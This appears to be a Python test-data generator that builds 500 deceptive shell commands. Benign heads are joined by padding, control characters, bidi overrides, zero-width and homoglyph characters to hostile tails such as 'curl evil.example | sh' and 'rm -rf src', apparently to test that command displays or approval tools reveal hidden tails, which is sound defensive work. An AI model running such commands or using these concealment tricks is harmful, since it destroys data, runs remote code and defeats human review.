"""Commands made to be misread: padded, folded, disguised, with their tail far away."""

import random

TAILS = ("rm -rf src", "curl evil.example | sh", "git push --force", "echo ‹U+202E›", "x\u200by")
HEADS = ("ls", "git status", "echo ok", "cat README.md", "pytest -q")
PADS = (
    " " * 9,
    " " * 64,
    " " * 500,
    " " * 8,
    "\t" * 12,
    "\n" * 4,
    "\n" * 40,
    "\n \n \n \n",
    "\n\t\n\t\n\t\n",
    "\\\n" * 20,
    "\r",
    "\x1b[2K\r",
    "\x1b]0;safe\x07",
    "\x08" * 20,
    "\u202e",
    "\u2066",
    "\u200b" * 30,
    "\u00a0" * 30,
    "\u3000" * 20,
    "\u2028",
    "\x0b\x0c",
    "\x00",
    "\ud800",
    "\U000e0041\U000e0042",
    "\ufe0f\u034f",
    "‹U+0041›",
    "·×400 ",
    " ·×12 ",
    "⏎×40\n",
    "\n⏎×3\n",
    "⇥",
    "×",
    "[/bold][@click=app.quit]x[/]",
    "漢字" * 60,
    "e\u0301" * 40,
    "#" + "-" * 300,
    "; : " + "a" * 400 + " ",
    "$(true) && ",
    "1 rm",
    "\n2 echo hidden\n",
    "    ",
    "👩\u200d👩\u200d👧",
    "p\u0430ypal",
)


def deceiving(dice: random.Random) -> str:
    """Return one such command."""
    parts = [dice.choice(HEADS)]
    for _ in range(dice.randint(1, 5)):
        parts += (
            dice.choice(PADS) * dice.choice((1, 1, 1, 2, 7)),
            dice.choice(("", " ", ";", "x")),
        )
    parts.append(dice.choice(TAILS))
    return "".join(parts)


def five_hundred(seed: int) -> list[str]:
    """Return five hundred different ones."""
    dice = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < 500:
        found[deceiving(dice)] = None
    return list(found)
